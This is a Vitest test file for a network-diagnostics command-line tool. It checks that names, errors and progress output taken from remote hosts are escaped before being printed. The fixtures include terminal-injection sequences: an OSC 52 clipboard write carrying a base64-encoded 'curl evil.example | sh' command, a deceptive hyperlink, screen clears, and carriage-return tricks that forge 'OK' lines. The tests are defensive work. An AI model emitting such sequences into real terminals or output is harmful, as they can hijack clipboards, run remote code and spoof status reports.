import { afterEach, describe, expect, it, vi } from 'vitest';
import { hostView } from '../../../collectors/analyze-json.js';
import { checkedCounters, diagnose, diagnoseAll } from '../../../collectors/diagnosis/engine.js';
import { snapshotDelta } from '../../../collectors/snapshot-delta.js';
import { formatDoctor } from '../../../kit/cli/format-doctor.js';
import { formatFindings } from '../../../kit/cli/format-findings.js';
import { formatDelta, formatSnapshot } from '../../../kit/cli/format-snapshot.js';
import { jsonText, printError, printOut } from '../../../kit/cli/print.js';
import { printWritten } from '../../../kit/cli/print-bundle.js';
import { table } from '../../../kit/cli/table.js';
import { DropkitError } from '../../../kit/errors.js';
import { createProgress } from '../../../kit/progress.js';
import {
  CLEAR,
  COUNTER,
  DRIVER,
  FORGE,
  forgedLines,
  hostileSnapshot,
  IFACE,
  OSC52,
  RAW_CONTROL,
} from '../hostile-snapshot.js';

const RAW_HINT = `\x1b]8;;https://evil.example/\x1b\\the docs\x1b]8;;\x1b\\`;

// The bytes the demonstrations used: ESC, BEL, 8-bit CSI, carriage return.
function expectClean(text: string): void {
  expect(text).not.toMatch(RAW_CONTROL);
  for (const b of [0x1b, 0x07, 0x9b, 0x0d]) expect(text).not.toContain(String.fromCharCode(b));
  expect(forgedLines(text)).toEqual([]);
}

function captured(stream: NodeJS.WriteStream): { text: () => string } {
  const chunks: string[] = [];
  vi.spyOn(stream, 'write').mockImplementation((c: string | Uint8Array) => {
    chunks.push(String(c));
    return true;
  });
  return { text: () => chunks.join('') };
}

afterEach(() => vi.restoreAllMocks());

describe('analyze and snapshot text output', () => {
  it('formatSnapshot escapes the host, OS, interface, driver and counter names', () => {
    const s = hostileSnapshot();
    const text = formatSnapshot(s);
    expectClean(text);
    // Visible, escaped, on the line of their own row.
    expect(text).toContain('eth0\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x0aOK: x');
    expect(text).toContain('mlx5_core\\e[2J\\e[H');
    expect(text).toContain('rx_drops\\e]8;;https://evil.example/\\e\\docs');
    expect(text).toContain('Debian GNU/Linux 12\\e]8;;');
    expect(text).toContain('6.1.0\\x9b31m');
    expect(text).toContain('Standard\\u{202e}D8');
    expect(text).toContain('not supported\\x0dOK: all good\\x0aOK: forged');
    // One row per interface: the header, eth0, nothing forged in between.
    const lines = text.split('\n');
    const at = lines.findIndex((l) => l.startsWith('IFACE'));
    expect(lines[at + 1]).toMatch(/^eth0\\e\]52/);
    expect(lines[at + 2]).toBe('');
  });

  it('formatDelta and the findings escape them too', () => {
    const before = hostileSnapshot();
    const after = {
      ...hostileSnapshot({ rxDropped: 50_000n, counter: 90_000n }),
      takenAt: '2026-11-27T14:16:02.000Z',
    };
    const delta = snapshotDelta(before, after);
    const findings = diagnoseAll([{ before, after, delta }]);
    const text = formatDelta(delta) + formatFindings(findings, checkedCounters({ after }));
    expectClean(text);
    expect(text).toContain('node-7\\e[2J\\e[H\\x0dOK: all good\\x0aOK: forged: deltas over 60.0 s');
    expect(text).toContain('rx_drops\\e]8;;');
    expect(findings.length).toBeGreaterThan(0);
    expect(text).toMatch(/^findings:$/m);
  });

  it('findings since boot, as `collect analyze PATH` prints them', () => {
    const s = hostileSnapshot({ rxDropped: 50_000n });
    const findings = diagnose({ after: s });
    expect(findings.length).toBeGreaterThan(0);
    expectClean(formatSnapshot(s) + formatFindings(findings, checkedCounters({ after: s })));
  });

  it('--json stays JSON, carries the names exactly, and holds nothing raw', () => {
    const s = hostileSnapshot();
    const value = {
      schema: 'dropkit.analyze/1',
      hosts: [hostView(s)],
      note: `C1 \x9b, bidi \u202e, DEL \x7f, lone \ud800`,
    };
    const json = jsonText(value);
    expectClean(json);
    expect(json).toContain('\\u009b');
    expect(json).toContain('\\u202e');
    expect(json).toContain('\\ud800');
    const back = JSON.parse(json);
    expect(back.hosts[0].name).toBe(s.host);
    expect(back.hosts[0].os).toBe(s.facts.os);
    expect(back.hosts[0].interfaces[0].name).toBe(IFACE);
    expect(back.hosts[0].interfaces[0].driver).toBe(DRIVER);
    expect(Object.keys(back.hosts[0].interfaces[0].ethtool)).toContain(COUNTER);
    expect(back.note).toBe(value.note);
  });
});

describe('tables', () => {
  it('escape every cell as one field, and align on what is printed', () => {
    const t = table(
      ['A', 'B'],
      [
        [`x${FORGE}`, '1'],
        ['y\tz', '22'],
      ],
    );
    expectClean(t);
    const lines = t.split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[1]).toBe('x\\x0dOK: all good\\x0aOK: forged   1');
    // Widths are those of the escaped cells (31 for row 1): columns line up.
    expect(lines[2]).toBe(`${'y\\x09z'.padEnd(31)}  22`);
  });
});

describe('doctor, bundle and error output', () => {
  it('formatDoctor escapes host names, details and hints', () => {
    const text = formatDoctor({
      purpose: 'bundle',
      ok: false,
      hosts: [
        {
          host: `vm${CLEAR}`,
          ok: false,
          checks: [
            { id: 'system', status: 'ok', detail: `Debian${OSC52}, kernel 6.1` },
            { id: 'tools', status: 'warn', detail: 'ip', hint: `install ethtool${FORGE}` },
          ],
        },
      ],
    });
    expectClean(text);
    expect(text).toMatch(/^HOST\s+CHECK\s+STAT\s+DETAIL$/m);
    expect(text).toContain('hint: vm\\e[2J\\e[H tools: install ethtool\\x0dOK: all good');
    expect(text).toContain('NOT READY for a bundle: vm\\e[2J\\e[H');
  });

  it('printWritten escapes paths, host names and host errors', () => {
    const out = captured(process.stdout);
    printWritten(
      {
        file: `/tmp/b${OSC52}.tar.gz`,
        bytes: 1234,
        sha256: 'ab'.repeat(32),
        manifest: {
          status: 'partial',
          hosts: [{ host: `vmB${CLEAR}`, status: 'failed', error: `ssh: refused${FORGE}` }],
        } as never,
      },
      false,
    );
    expectClean(out.text());
    expect(out.text()).toContain('PARTIAL: vmB\\e[2J\\e[H failed: ssh: refused\\x0dOK: all good');
  });

  it('an error is one line plus its hint, whatever the host printed in it', () => {
    const err = captured(process.stderr);
    printError(
      new DropkitError({
        code: 'COMMAND_FAILED',
        host: `vm${CLEAR}`,
        step: 'snapshot',
        message: `sh: 1: ${OSC52}: not found${FORGE}`,
        hint: `see ${RAW_HINT}`,
      }),
    );
    const text = err.text();
    expectClean(text);
    expect(text.split('\n')).toEqual([
      expect.stringMatching(/^error: vm\\e\[2J\\e\[H: snapshot: sh: 1: \\e\]52;c;/),
      expect.stringMatching(/^hint: see /),
      '',
    ]);
  });

  it('printOut escapes a control that no formatter escaped, and nothing twice', () => {
    const out = captured(process.stdout);
    printOut('already \\e[31m escaped, raw \x1b[31m\n');
    expect(out.text()).toBe('already \\e[31m escaped, raw \\e[31m\n');
  });
});

describe('progress lines', () => {
  const sink = () => {
    let text = '';
    return {
      stream: {
        write: (c: string) => {
          text += c;
          return true;
        },
      } as unknown as NodeJS.WritableStream,
      text: () => text,
    };
  };
  const status = {
    phase: `burst${CLEAR}`,
    elapsedS: 3,
    remainingS: 7,
    dropRates: [{ host: `vmB${OSC52}`, perSec: 12 }],
  };

  it('plain: steps, details and status lines are escaped', () => {
    const s = sink();
    const p = createProgress('plain', s.stream);
    p.step(`snapshot ${IFACE}`, 1200, false, `sudo: ${FORGE}`);
    p.status(status);
    p.note(`note${OSC52}`);
    expectClean(s.text());
    expect(s.text().split('\n')).toHaveLength(4);
  });

  it('tty: only its own clear-line sequence is raw', () => {
    const s = sink();
    const p = createProgress('tty', s.stream);
    p.status(status);
    p.step(`trace ${IFACE}`, 10, true, `detail${FORGE}`);
    p.status(status);
    p.done();
    expectClean(s.text().replaceAll('\r\x1b[K', ''));
  });
});
